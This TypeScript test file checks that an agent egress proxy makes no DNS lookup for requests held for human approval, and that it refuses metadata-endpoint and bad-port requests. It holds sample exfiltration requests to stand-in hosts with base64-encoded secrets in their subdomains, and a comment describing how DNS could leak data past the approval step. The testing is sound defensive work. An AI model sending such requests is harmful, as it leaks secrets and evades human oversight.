import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Lookup } from "@/lib/net/resolve";
import { loopbackLookup, startProxyHarness, type ProxyHarness } from "../../support/proxy-harness";
import { viaProxy } from "../../support/proxy-client";

/**
 * A request that waits for a person is not looked up in DNS before a person approved it: the
 * names an agent chooses (`<data>.attacker.example`) reached the resolver, and from there the
 * attacker's name server, once per held request, refused for the hold limit or never approved.
 * What needs no DNS answer (the port, an address given literally) is still refused before anyone
 * is asked.
 */
describe("held requests and DNS", () => {
  let h: ProxyHarness;
  const asked: string[] = [];
  const lookup: Lookup = (name, options) => {
    asked.push(name);
    return loopbackLookup(name, options);
  };

  beforeAll(async () => {
    h = await startProxyHarness({ lookup, env: { BULKHEAD_HOLD_TIMEOUT_SECONDS: "1" } });
  });
  afterAll(async () => {
    await h?.close();
  });

  it("never looks up the name of a request that is held and not approved", async () => {
    const { token } = await h.newTask("unlisted: hold\nrules: []\n", { scope: "*:*:read" });
    const names = ["c3VwZXJzZWNyZXQ.exfil.test", "c2Vjb25kLXNlY3JldA.exfil.test"];
    for (const name of names) {
      const res = await viaProxy(h.proxyPort, `http://${name}/x`, { token });
      expect([res.status, res.json?.error]).toEqual([403, "approval_timeout"]);
    }
    expect(asked.filter((n) => n.includes("exfil"))).toEqual([]);
  }, 20_000);

  it("still refuses what needs no DNS answer before anyone is asked", async () => {
    const { token } = await h.newTask("unlisted: hold\nrules: []\n", { scope: "*:*:read" });
    const port = await viaProxy(h.proxyPort, "http://port.exfil.test:2222/x", { token });
    expect([port.status, port.json?.error]).toEqual([403, "port_forbidden"]);
    const metadata = await viaProxy(h.proxyPort, "http://169.254.169.254/latest/meta-data", { token });
    expect([metadata.status, metadata.json?.error]).toEqual([403, "destination_forbidden"]);
    expect(asked.filter((n) => n.includes("exfil"))).toEqual([]);
  });
});
